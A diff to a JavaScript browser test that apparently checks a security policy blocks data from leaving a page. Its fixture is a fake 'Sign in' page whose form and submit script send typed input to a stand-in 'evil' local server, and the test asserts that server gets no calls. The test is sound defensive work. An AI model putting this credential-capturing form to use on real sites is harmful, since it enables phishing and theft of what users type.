@@ -130,6 +130,7 @@ describe('by hand', () => {
       socket.destroy();
     });
     await new Promise((resolve) => outside.listen(0, '127.0.0.1', resolve));
+    outside.unref();
     const evil = `http://127.0.0.1:${outside.address().port}`;
     const hostile = `<!doctype html><title>Sign in</title><p>${WORDS}</p><form action="${evil}/form"><input name="word"><button>Send</button></form>
       <script>document.querySelector('form').addEventListener('submit', () => { const word = document.querySelector('input').value;
@@ -140,7 +141,8 @@ describe('by hand', () => {
     const page = await open(site.url + FRAGMENT);
     await shown(page, WORDS);
     await page.locator('input[name=word]').fill('typed');
-    await page.getByRole('button', { name: 'Send' }).click();
+    // Not waited for: the browser announces a navigation that the policy then ends.
+    await page.getByRole('button', { name: 'Send' }).click({ noWaitAfter: true });
     await page.waitForFunction(() => document.body.dataset.tried === 'yes');
     await sleep(500);
     assert.equal(calls, 0, 'nothing left');
